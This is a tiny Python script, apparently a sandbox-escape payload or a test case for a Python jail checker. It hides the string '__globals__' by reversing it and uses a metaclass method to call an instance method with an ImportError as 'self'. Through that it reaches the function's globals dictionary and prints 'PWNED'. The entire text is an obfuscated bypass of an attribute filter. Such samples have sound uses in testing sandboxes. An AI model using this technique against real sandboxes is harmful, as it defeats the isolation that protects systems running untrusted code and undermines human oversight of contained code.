# metaclass: Meta method gets the class and calls show with another self
def f():
    pass


H = "".join(reversed("__slabolg__"))


class Meta(type):
    def run(cls, e):
        return cls.show(e)


class Row(metaclass=Meta):
    name = ("x",)
    x = 1

    def show(self):
        return [getattr(f, n, None) for n in self.name]


print("PWNED", len(Row.run(ImportError(name=[H]))[0]))
